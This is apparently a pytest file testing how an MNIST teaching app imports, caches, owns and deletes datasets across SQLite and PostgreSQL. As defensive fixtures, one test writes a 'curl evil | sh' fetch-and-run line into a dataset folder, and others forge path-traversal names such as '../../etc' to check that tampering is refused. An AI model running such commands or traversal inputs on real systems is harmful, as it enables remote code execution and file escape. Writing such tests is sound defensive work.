"""Imported datasets on both databases: in the home with SQLite; in the database with PostgreSQL, the home a cache."""

import hashlib
import shutil
import subprocess
import sys
import threading

import numpy as np
import pytest
import sqlalchemy as sa

from mnist_lab.data import (
    dataset_names,
    delete_dataset,
    get_dataset,
    import_idx_upload,
    imported_dataset,
    imported_datasets,
    limits,
    record_dataset_folder,
)
from mnist_lab.data.owners import owner_record
from mnist_lab.errors import AccessError, DatasetError, LimitExceededError
from mnist_lab.runs import database as database_mod
from mnist_lab.runs.schema import dataset_files, datasets
from mnist_lab.runs.store import RunStore
from tests.apptest_helpers import ALICE, BOB, TEACHER
from tests.server import ROOT
from tests.test_dataset_folders import CLASSES, expected_sha256, idx_files, three_classes, write_folder


@pytest.fixture(scope="module")
def arrays(mnist):
    return three_classes(mnist)


@pytest.fixture(autouse=True)
def no_configured_folders(monkeypatch):
    monkeypatch.delenv("MNIST_LAB_DATASETS", raising=False)


def rows(url: str) -> dict[str, list[str]]:
    """The datasets in the database at ``url``, each with the names of its files."""
    engine = sa.create_engine(url)
    try:
        with engine.connect() as db:
            found = {name: [] for (name,) in db.execute(sa.select(datasets.c.name))}
            for dataset, name in db.execute(sa.select(dataset_files.c.dataset, dataset_files.c.name)):
                found[dataset].append(name)
    finally:
        engine.dispose()
    return {name: sorted(files) for name, files in found.items()}


def test_an_import_is_listed_read_and_deleted_on_each_database(home, arrays, database):
    dataset = import_idx_upload(idx_files(arrays), "Shapes", home, user=ALICE)
    assert dataset_names(home) == ["MNIST", "Shapes"]
    record = imported_dataset("Shapes", home)
    assert (record.owner, record.owner_name) == (ALICE.id, "Alice") and record.added > 0
    assert record.size == sum(path.stat().st_size for path in (home / "datasets" / "Shapes").iterdir())
    loaded = get_dataset("Shapes", home)
    assert loaded.sha256 == dataset.sha256 == expected_sha256(arrays) and loaded.class_names == CLASSES
    assert delete_dataset("Shapes", ALICE, home).message == "Deleted the dataset 'Shapes'."
    assert dataset_names(home) == ["MNIST"] and not (home / "datasets" / "Shapes").exists()


def test_with_sqlite_the_database_holds_no_dataset(home, arrays, monkeypatch):
    monkeypatch.delenv(database_mod.DATABASE_ENV, raising=False)
    import_idx_upload(idx_files(arrays), "Shapes", home)
    RunStore(home)  # brings the SQLite file to the schema with the datasets' tables
    assert rows(f"sqlite:///{home / 'runs.sqlite'}") == {}
    shutil.rmtree(home / "datasets")
    assert dataset_names(home) == ["MNIST"]  # the home's folders are the datasets


def test_a_server_keeps_the_dataset_when_the_home_is_wiped(home, arrays, postgres_url):
    import_idx_upload(idx_files(arrays), "Shapes", home, user=ALICE, database=postgres_url)
    assert rows(postgres_url) == {"Shapes": sorted(["checksums.json", "classes.txt", "owner.json",
                                                    *idx_files(arrays, classes=None)])}
    shutil.rmtree(home)
    assert dataset_names(home, database=postgres_url) == ["MNIST", "Shapes"]
    assert imported_dataset("Shapes", home, database=postgres_url).owner == ALICE.id
    loaded = get_dataset("Shapes", home, database=postgres_url)
    assert loaded.sha256 == expected_sha256(arrays)
    np.testing.assert_array_equal(loaded.x_test, arrays[2])
    assert (home / "datasets" / "Shapes" / "owner.json").is_file()
    assert not [path for path in (home / "datasets").iterdir() if path.name.startswith(".")]


def test_a_cache_holding_another_version_is_written_again(home, arrays, postgres_url):
    import_idx_upload(idx_files(arrays), "Shapes", home, database=postgres_url)
    classes = home / "datasets" / "Shapes" / "classes.txt"
    classes.write_text("a\nb\nc\n")
    (home / "datasets" / "Shapes" / "transposed").write_bytes(b"")
    assert get_dataset("Shapes", home, database=postgres_url).class_names == CLASSES
    assert classes.read_text() == "ring\nbar\nseven\n" and not (home / "datasets" / "Shapes" / "transposed").exists()


def test_a_stale_cache_folder_neither_lists_nor_blocks_its_name(home, arrays, postgres_url):
    write_folder(home / "datasets" / "Gone", idx_files(arrays))  # a dataset another server deleted
    assert dataset_names(home, database=postgres_url) == ["MNIST"]
    import_idx_upload(idx_files(arrays), "Gone", home, database=postgres_url)
    assert list(rows(postgres_url)) == ["Gone"]


def test_names_are_unique_ignoring_case_in_the_database(home, arrays, postgres_url):
    import_idx_upload(idx_files(arrays), "Shapes", home, database=postgres_url)
    shutil.rmtree(home / "datasets")
    with pytest.raises(DatasetError, match="a dataset named 'shapes' already exists"):
        import_idx_upload(idx_files(arrays), "shapes", home, database=postgres_url)
    assert list(rows(postgres_url)) == ["Shapes"]


def test_the_students_count_is_read_from_the_database(home, arrays, postgres_url):
    files = idx_files(arrays)
    for number in range(1, limits.MAX_DATASETS_PER_STUDENT + 1):
        import_idx_upload(files, f"Alice {number}", home, user=ALICE, database=postgres_url)
    shutil.rmtree(home)  # a restarted server: the count is not in the home
    with pytest.raises(LimitExceededError, match="you have added 5 datasets"):
        import_idx_upload(files, "Alice 6", home, user=ALICE, database=postgres_url)
    import_idx_upload(files, "Bob 1", home, user=BOB, database=postgres_url)
    assert "Alice 6" not in rows(postgres_url)


def test_two_uploads_at_once_cannot_both_take_the_last_place_in_the_database(home, arrays, postgres_url):
    files = idx_files(arrays)
    for number in range(1, limits.MAX_DATASETS_PER_STUDENT):
        import_idx_upload(files, f"Alice {number}", home, user=ALICE, database=postgres_url)
    barrier, outcomes = threading.Barrier(3), []

    def upload(number: int) -> None:
        barrier.wait()
        try:
            import_idx_upload(files, f"Tab {number}", home, user=ALICE, database=postgres_url)
            outcomes.append("stored")
        except LimitExceededError:
            outcomes.append("refused")

    threads = [threading.Thread(target=upload, args=(number,)) for number in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["refused", "refused", "stored"]
    assert len([name for name in rows(postgres_url) if name.startswith(("Alice", "Tab"))]) == limits.MAX_DATASETS_PER_STUDENT


def test_deleting_removes_the_dataset_from_the_database_and_the_home(home, arrays, postgres_url):
    import_idx_upload(idx_files(arrays), "Shapes", home, user=ALICE, database=postgres_url)
    import_idx_upload(idx_files(arrays), "Kept", home, user=BOB, database=postgres_url)
    shutil.rmtree(home / "datasets" / "Shapes")  # deleting works whether the cache holds it or not
    delete_dataset("Shapes", TEACHER, home, database=postgres_url)
    assert list(rows(postgres_url)) == ["Kept"]
    assert [record.name for record in imported_datasets(home, database=postgres_url)] == ["Kept"]
    with pytest.raises(DatasetError, match="no dataset named 'Shapes'"):
        get_dataset("Shapes", home, database=postgres_url)


def test_ownership_comes_from_the_database_when_the_home_is_wiped(home, arrays, postgres_url):
    import_idx_upload(idx_files(arrays), "Bobs", home, user=BOB, database=postgres_url)
    shutil.rmtree(home)  # no owner.json left to read: an import without one would be the personal user's
    with pytest.raises(AccessError, match="added by another user"):
        delete_dataset("Bobs", ALICE, home, database=postgres_url)
    assert list(rows(postgres_url)) == ["Bobs"]
    delete_dataset("Bobs", BOB, home, database=postgres_url)
    assert rows(postgres_url) == {}


def test_a_folder_written_in_the_home_is_recorded_in_the_database(home, arrays, postgres_url):
    folder = write_folder(home / "datasets" / "Restored", idx_files(arrays))
    (folder / "owner.json").write_text(owner_record(BOB))
    assert record_dataset_folder("Restored", home, database=postgres_url) is True
    shutil.rmtree(home)
    assert imported_dataset("Restored", home, database=postgres_url).owner == BOB.id
    assert get_dataset("Restored", home, database=postgres_url).sha256 == expected_sha256(arrays)
    with pytest.raises(DatasetError, match="already exists"):
        record_dataset_folder("Restored", home, database=postgres_url)


def test_recording_a_folder_with_sqlite_writes_nothing(home, arrays, monkeypatch):
    monkeypatch.delenv(database_mod.DATABASE_ENV, raising=False)
    write_folder(home / "datasets" / "Restored", idx_files(arrays))
    assert record_dataset_folder("Restored", home) is False
    assert dataset_names(home) == ["MNIST", "Restored"]


def test_a_hostile_folder_is_not_recorded(home, arrays, postgres_url):
    folder = write_folder(home / "datasets" / "Hostile", idx_files(arrays))
    (folder / "run.sh").write_text("curl evil | sh\n")
    with pytest.raises(DatasetError, match=r"holds files a dataset does not have \(run.sh\)"):
        record_dataset_folder("Hostile", home, database=postgres_url)
    for name in ("../Hostile", ".import-x", "MNIST"):
        with pytest.raises(DatasetError, match="cannot name an imported dataset"):
            record_dataset_folder(name, home, database=postgres_url)
    write_folder(home / "datasets" / "Broken", {"train-images-idx3-ubyte": b"not idx"})
    with pytest.raises(DatasetError, match="Broken"):
        record_dataset_folder("Broken", home, database=postgres_url)
    assert rows(postgres_url) == {}


def forge(url: str, dataset: str, **changes) -> None:
    """Change the stored ``train-images`` file of ``dataset`` directly in the database, as a hostile writer would."""
    engine = sa.create_engine(url)
    try:
        with engine.begin() as db:
            db.execute(sa.update(dataset_files).where(dataset_files.c.dataset == dataset,
                                                      dataset_files.c.name.like("train-images%")).values(**changes))
    finally:
        engine.dispose()


@pytest.mark.parametrize("changes", [
    {"data": b"\x1f\x8b forged images"},
    {"sha256": "0" * 64},
], ids=["altered data", "altered checksum"])
def test_an_altered_file_in_the_database_is_refused_and_nothing_is_written(home, arrays, postgres_url, changes):
    import_idx_upload(idx_files(arrays), "Shapes", home, database=postgres_url)
    shutil.rmtree(home / "datasets")
    forge(postgres_url, "Shapes", **changes)
    with pytest.raises(DatasetError, match=r"the stored dataset 'Shapes' is damaged or was altered in the database "
                                           r"\(its file 'train-images-idx3-ubyte.gz' does not match"):
        get_dataset("Shapes", home, database=postgres_url)
    assert not (home / "datasets").exists() or not list((home / "datasets").iterdir())


def test_a_file_name_that_leaves_the_folder_is_refused(home, arrays, postgres_url, tmp_path):
    import_idx_upload(idx_files(arrays), "Shapes", home, database=postgres_url)
    shutil.rmtree(home / "datasets")
    forge(postgres_url, "Shapes", name="../../escaped")
    with pytest.raises(DatasetError, match="damaged or was altered"):
        get_dataset("Shapes", home, database=postgres_url)
    assert not list(tmp_path.rglob("escaped"))


def test_an_oversized_dataset_in_the_database_is_refused_before_it_is_fetched(home, arrays, postgres_url,
                                                                              monkeypatch):
    import_idx_upload(idx_files(arrays), "Shapes", home, database=postgres_url)
    shutil.rmtree(home / "datasets")
    monkeypatch.setattr(limits, "MAX_UPLOAD_BYTES", 1_000_000)
    blob = bytes(2_000_000)  # consistent with its checksum and size: only its size gives it away
    forge(postgres_url, "Shapes", data=blob, bytes=len(blob), sha256=hashlib.sha256(blob).hexdigest())
    with pytest.raises(DatasetError, match=r"over the limit of .*it was not written by MNIST Lab and is refused"):
        get_dataset("Shapes", home, database=postgres_url)
    assert not (home / "datasets").exists() or not list((home / "datasets").iterdir())


def test_a_dataset_row_whose_name_leaves_the_folder_is_not_offered(home, postgres_url):
    engine = database_mod.engine_for(database_mod.resolve(postgres_url, home=home))
    dataset_names(home, database=postgres_url)  # brings the schema up to date
    with engine.begin() as db:
        db.execute(sa.insert(datasets).values(name="../../etc", owner="x", owner_name="x", added=0.0))
    assert dataset_names(home, database=postgres_url) == ["MNIST"]
    assert imported_datasets(home, database=postgres_url) == []


@pytest.mark.slow
def test_the_command_line_imports_into_the_database_and_lists_from_it(home, arrays, postgres_url, tmp_path):
    source = write_folder(tmp_path / "shapes", idx_files(arrays))
    command = [sys.executable, "-m", "mnist_lab"]
    imported = subprocess.run([*command, "import-dataset", str(source), "--name", "Shapes", "--home", str(home),
                               "--database", postgres_url], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert imported.returncode == 0, imported.stderr
    assert list(rows(postgres_url)) == ["Shapes"]
    shutil.rmtree(home)
    listed = subprocess.run([*command, "datasets", "--home", str(home), "--database", postgres_url], cwd=ROOT,
                            capture_output=True, text=True, timeout=300)
    assert listed.returncode == 0, listed.stderr
    assert "Shapes: 60 training and 30 test images, classes ring, bar, seven" in listed.stdout
